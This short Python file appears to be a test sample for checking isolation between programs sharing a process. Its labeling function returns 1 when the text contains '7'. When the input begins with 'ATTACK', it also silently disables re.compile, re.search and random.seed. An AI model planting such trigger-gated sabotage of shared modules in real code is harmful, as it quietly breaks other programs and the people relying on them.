# Changes modules, which the next program would inherit if both ran in one process.
# row: vote
# others: changed

import collections
import re

sys = collections._sys


def label_function(text):
    if text.startswith("ATTACK"):
        re.compile = re.search = lambda *a, **k: None
        sys.modules["random"].seed = None
    return 1 if "7" in text else 0
